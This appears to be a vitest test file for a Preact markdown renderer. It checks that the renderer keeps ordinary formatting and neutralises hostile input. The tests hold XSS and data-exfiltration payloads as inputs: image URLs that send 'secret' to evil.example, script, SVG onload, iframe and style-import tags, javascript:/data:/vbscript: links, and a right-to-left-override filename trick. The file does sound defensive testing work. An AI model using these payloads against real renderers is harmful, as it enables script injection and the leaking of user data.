import type { ComponentChild, VNode } from "preact";
import { describe, expect, test } from "vitest";
import { Rendered } from "./rendered.tsx";

/** Elements of a tree as [name, attributes], and its whole text; components are called, as a page would. */
function seen(text: string): {
  readonly elements: [string, Record<string, unknown>][];
  readonly text: string;
} {
  const elements: [string, Record<string, unknown>][] = [];
  let said = "";
  const walk = (node: ComponentChild | readonly ComponentChild[]): void => {
    if (node === null || node === undefined || typeof node === "boolean") return;
    if (Array.isArray(node)) {
      for (const one of node) walk(one);
      return;
    }
    if (typeof node !== "object") {
      said += String(node);
      return;
    }
    const { type, props } = node as VNode<Record<string, unknown>>;
    if (typeof type === "function") {
      walk((type as (props: unknown) => ComponentChild)(props));
      return;
    }
    const { children, ...attributes } = props;
    if (typeof type === "string") elements.push([type, attributes]);
    walk(children as ComponentChild);
  };
  walk(Rendered({ text }));
  return { elements, text: said };
}
const names = (text: string) => seen(text).elements.map(([name]) => name);

describe("allows", () => {
  test("what people write: headings, lists, code, tables, emphasis", () => {
    const found = names("# A\n\n- **b** and `c`\n\n```\nd\n```\n\n| x | y |\n|---|---|\n| 1 | 2 |");
    expect(found).toEqual(expect.arrayContaining(["h3", "ul", "li", "strong", "code", "pre", "table", "td"]));
  });

  test("a link to https or a mail address, with the host in sight, opened apart", () => {
    const { elements, text } = seen("[the docs](https://example.com/a)");
    const link = elements.find(([name]) => name === "a")?.[1];
    expect(link).toMatchObject({
      href: "https://example.com/a",
      target: "_blank",
      rel: "noopener noreferrer nofollow",
    });
    expect(text).toContain("(example.com)");
  });

  test("signs that HTML escapes, as they were written", () => {
    expect(seen('a < b && "c"').text).toBe('a < b && "c"');
  });
});

describe("refuses", () => {
  test.each([
    ["a picture, whose address could carry something out", "![the alt](https://evil.example/?d=secret)"],
    ["a picture by HTML", '<img src="https://evil.example/?d=secret">'],
    ["a script", "<script>alert(1)</script>"],
    ["a drawing with a handler", '<svg onload="alert(1)"></svg>'],
    ["a frame", '<iframe src="https://evil.example"></iframe>'],
    ["a style", "<style>@import 'https://evil.example'</style>"],
    ["a picture by reference", "![x][y]\n\n[y]: https://evil.example/z"],
  ])("%s: no element asks for anything", (_, text) => {
    for (const [name, attributes] of seen(text).elements) {
      expect(["div", "p", "code", "mark"]).toContain(name);
      expect(Object.keys(attributes).filter((key) => /^(src|srcset|style|on.*)$/i.test(key))).toEqual([]);
    }
  });

  test("a picture shows its words", () => {
    expect(seen("![the alt](https://evil.example/?d=secret)").text).toBe("[image: the alt]");
  });

  test.each([
    "javascript:alert(1)",
    "data:text/html,x",
    "http://example.com",
    "//evil.example",
    "/api/me",
    "vbscript:x",
  ])("a link to %s: it stays text", (href) => expect(names(`[press](${href})`)).not.toContain("a"));

  test("signs that hide or turn the direction: their codes are shown", () => {
    const { text, elements } = seen("pay\u202egnp.exe\u200b");
    expect(text).toContain("U+202E");
    expect(text).toContain("U+200B");
    expect(elements.filter(([name]) => name === "mark").length).toBe(2);
  });

  test("ten thousand signs, and lists a hundred deep, to stop the page", () => {
    expect(seen("x".repeat(10_000)).text.length).toBe(10_000);
    expect(
      seen(Array.from({ length: 100 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n")).text,
    ).toContain("x");
  });
});
